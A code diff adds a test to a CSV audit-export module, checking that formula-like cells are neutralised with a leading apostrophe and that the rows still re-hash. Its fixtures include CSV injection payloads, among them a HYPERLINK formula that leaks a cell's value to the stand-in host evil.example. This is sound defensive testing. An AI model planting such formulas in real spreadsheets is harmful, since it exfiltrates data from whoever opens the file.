@@ -1,5 +1,7 @@
-import { Writable } from 'node:stream';
+import { Readable, Writable } from 'node:stream';
+import { parse } from 'csv-parse/sync';
 import type { AuditRecordEntity } from '@docaxis/persistence/audit/audit-record.entity';
+import { payloadDigestOf, recordHashOf } from '../chain/audit-record-hash';
 import { writeAuditCsv } from './audit-csv-export';
 
 function record(seq: number): AuditRecordEntity {
@@ -54,6 +56,75 @@ describe('writeAuditCsv', () => {
     );
     expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(['1', '2', '3']);
     expect(closed()).toBe(true);
+  });
+
+  it('neutralises cells a spreadsheet would run as formulas, and the rows still re-hash', async () => {
+    // A certificate subject and an event id are chosen outside the axis; a payload string too.
+    const fields = {
+      seq: 7,
+      eventId: '@SUM(1+1)*cmd',
+      eventType: 'dispatch.submitted',
+      occurredAt: new Date(Date.UTC(2026, 10, 24, 6, 0, 7)),
+      recordedAt: new Date(Date.UTC(2026, 10, 24, 6, 0, 8)),
+      dispatchId: null,
+      senderCode: '+000.00.00.G22',
+      recipientCode: '-1',
+      actor: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+      payloadDigest: payloadDigestOf({ note: '=1+1' }),
+      prevHash: '0'.repeat(64),
+    };
+    const tricky: AuditRecordEntity = {
+      ...fields,
+      payload: { note: '=1+1' },
+      hash: recordHashOf(fields),
+    };
+    const quoted: AuditRecordEntity = {
+      ...record(8),
+      actor: "'already quoted",
+      eventId: '\t=tab',
+      eventType: '\r=cr',
+    };
+    let text = '';
+    const out = new Writable({
+      write(chunk: Buffer, _encoding, done) {
+        text += chunk.toString('utf8');
+        done();
+      },
+    });
+    await writeAuditCsv(Readable.from([tricky, quoted]), out);
+    const rows = parse<Record<string, string>>(text, { columns: true });
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(rows[0]).toMatchObject({
+      event_id: "'@SUM(1+1)*cmd",
+      sender_code: "'+000.00.00.G22",
+      recipient_code: "'-1",
+      actor: `'${fields.actor}`,
+    });
+    expect(rows[1]).toMatchObject({
+      actor: "''already quoted",
+      event_id: "'\t=tab",
+      event_type: "'\r=cr",
+    });
+    // The documented reversal: one leading apostrophe dropped gives the hashed values back.
+    const value = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell);
+    const [row] = rows;
+    const rehashed = recordHashOf({
+      seq: Number(row.seq),
+      eventId: value(row.event_id),
+      eventType: value(row.event_type),
+      occurredAt: new Date(row.occurred_at),
+      recordedAt: new Date(row.recorded_at),
+      dispatchId: row.dispatch_id === '' ? null : value(row.dispatch_id),
+      senderCode: value(row.sender_code),
+      recipientCode: value(row.recipient_code),
+      actor: value(row.actor),
+      payloadDigest: payloadDigestOf(JSON.parse(value(row.payload))),
+      prevHash: row.prev_hash,
+    });
+    expect(rehashed).toBe(row.hash);
+    expect(value(rows[1].actor)).toBe("'already quoted");
   });
 
   it('rejects and stops reading when the destination fails mid-export, never waits forever', async () => {
